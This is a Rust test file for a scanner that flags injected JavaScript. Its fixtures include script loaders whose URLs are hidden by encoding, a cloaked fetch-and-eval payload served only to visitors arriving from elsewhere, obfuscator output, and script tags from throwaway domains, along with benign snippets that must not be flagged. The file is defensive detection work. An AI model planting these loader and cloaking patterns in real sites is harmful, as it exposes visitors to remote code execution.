use super::*;

fn codes(s: &str) -> String {
    s.bytes().map(|b| b.to_string()).collect::<Vec<_>>().join(",")
}

fn hex(s: &str) -> String {
    s.bytes().map(|b| format!("\\x{b:02x}")).collect()
}

fn found(js: &str) -> Option<Danger> {
    injected(js.as_bytes()).map(|i| i.danger)
}

/// An ordinary library's code, long enough that what follows it is "added".
fn library() -> String {
    "/*! tiny-slider v1.0 | MIT */\n(function(){'use strict';\n".to_owned()
        + &"function next(s){ s.index = (s.index + 1) % s.items.length; s.render(); }\n".repeat(12)
        + "})();\n"
}

#[test]
fn a_script_loaded_from_an_address_in_character_codes_is_found() {
    let js = format!(
        "{}var u=String.fromCharCode({});var s=document.createElement('script');s.src=u;document.head.appendChild(s);",
        library(),
        codes("https://cdn.stats-collector.example/t.js")
    );
    assert_eq!(found(&js), Some(Danger::High));
}

#[test]
fn every_way_of_hiding_the_address_is_read() {
    let url = "https://pushnotify.example/redirect?id=7";
    let b64 = base64::engine::general_purpose::STANDARD.encode(url);
    let pct: String = url.bytes().map(|b| format!("%{b:02X}")).collect();
    let rev: String = url.chars().rev().collect();
    for js in [
        format!("window.location.href = '{}';", hex(url)),
        format!("var s = document.createElement('script'); s.src = atob('{b64}');"),
        format!("document.write(unescape('{}'));", pct.clone() + "%3C%2Fscript%3E"),
        format!("location.replace('{rev}'.split('').reverse().join(''));"),
        format!("top.location = String.fromCharCode.apply(null, [{}]);", codes(url)),
    ] {
        assert_eq!(found(&js), Some(Danger::High), "{js}");
    }
}

#[test]
fn hidden_text_that_is_no_address_or_unused_is_not_a_finding() {
    // A greeting kept in character codes, a translation table, an address in codes with no use.
    assert_eq!(found(&format!("alert(String.fromCharCode({}));", codes("Hello, World!"))), None);
    assert_eq!(found("var sep = '\\x2d\\x2d\\x2d\\x2d\\x2d\\x2d\\x2d\\x2d'; console.log(sep);"), None);
    let far = format!("var u = String.fromCharCode({});{}", codes("https://a.example/"), " ".repeat(700));
    assert_eq!(found(&(far + "var s = document.createElement('div');")), None);
    // A UTF-8 decoder computes its codes.
    assert_eq!(found("out += String.fromCharCode(((c & 31) << 6) | (c2 & 63)); el.innerHTML = out;"), None);
}

#[test]
fn the_classic_analytics_snippet_is_not_a_finding() {
    // Only the angle brackets are encoded: nothing is hidden.
    let ga = r#"var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");
document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));"#;
    assert_eq!(found(ga), None);
}

#[test]
fn a_script_fetched_and_run_only_for_visitors_from_elsewhere_is_found() {
    let js = format!(
        "{}(function(){{var r=new XMLHttpRequest();if(!document.cookie&&document.referrer.indexOf(location.hostname)<0){{\
         r.onreadystatechange=function(){{if(r.readyState==4&&r.status==200)eval(r.responseText);}};\
         r.open('GET','/wp-content/plugins/x/cache.php?v='+Math.random(),true);r.send();}}}})();",
        library()
    );
    assert_eq!(found(&js), Some(Danger::High));
}

#[test]
fn names_in_brackets_are_read_as_written_out() {
    let js = "(function(){var d=document,w=window,c=d['cookie'],r=d['referrer'];if(r&&!c){var x=new XMLHttpRequest();\
              x['onreadystatechange']=function(){if(x['readyState']==4)w['eval'](x['responseText']);};\
              x['open']('GET','//stats.example/s.php',true);x['send'](null);}})();";
    assert_eq!(found(js), Some(Danger::High));
}

#[test]
fn a_loader_running_its_own_modules_for_everyone_is_not_a_finding() {
    let js = "function load(u, cb){ var x = new XMLHttpRequest(); x.open('GET', u, false); x.send(); \
              eval(x.responseText); cb(); }";
    assert_eq!(found(js), None);
    // Its own consent cookie read nearby does not make it one.
    assert_eq!(
        found(&format!("{js} if (document.cookie.indexOf('consent=1') >= 0) {{ load('/stats.js', f); }}")),
        None
    );
}

/// An obfuscator's output: a string table, the rotation loop, lookups (written for this test).
fn obfuscated() -> String {
    "function a(){var t=['log','2431xQ','push','shift','91aB'];a=function(){return t;};return a();}\
     (function(f,n){var g=f();while(!![]){try{var v=parseInt('2431')/0x1+parseInt('91')/0x2;\
     if(v===n)break;else g['push'](g['shift']());}catch(e){g['push'](g['shift']());}}}(a,0x3a1));"
        .to_owned()
}

#[test]
fn an_obfuscators_block_after_a_scripts_own_code_is_found_high() {
    assert_eq!(found(&(library() + ";" + &obfuscated())), Some(Danger::High));
}

#[test]
fn a_wholly_obfuscated_script_is_found_lower() {
    assert_eq!(found(&obfuscated()), Some(Danger::Medium));
}

#[test]
fn a_script_tag_from_a_throw_away_domain_is_found() {
    assert_eq!(found("document.write('<script src=\"https://cdn-stat.tk/j.js\"></script>');"), Some(Danger::High));
    assert_eq!(found("s.src = 'https://counter.cheap-analytics.xyz/c.js';"), Some(Danger::High));
    assert_eq!(found("s.src = 'https://www.google-analytics.com/analytics.js';"), None);
}

#[test]
fn a_pages_script_blocks_are_read_and_the_block_is_named() {
    let block = format!(
        "<script>var s=document.createElement('script');s.src=String.fromCharCode({});</script>",
        codes("https://t.example/a.js")
    );
    let page = format!("<html><head><title>Shop</title></head><body><p>Hi</p>{block}</body></html>");
    let at = page.find("<script>").unwrap();
    assert_eq!(in_page(page.as_bytes()), Some(Injection { danger: Danger::High, at }));
    let gtag = "<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-1\"></script>\
                <script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}</script>";
    assert_eq!(in_page(gtag.as_bytes()), None);
}

#[test]
fn decoders_read_what_they_are_given() {
    assert_eq!(char_codes(b"104, 0x69,300"), b"hi");
    assert_eq!(escapes(br"\x68\u0069"), b"hi");
    assert_eq!(percent(b"%68%u0069"), b"hi");
}
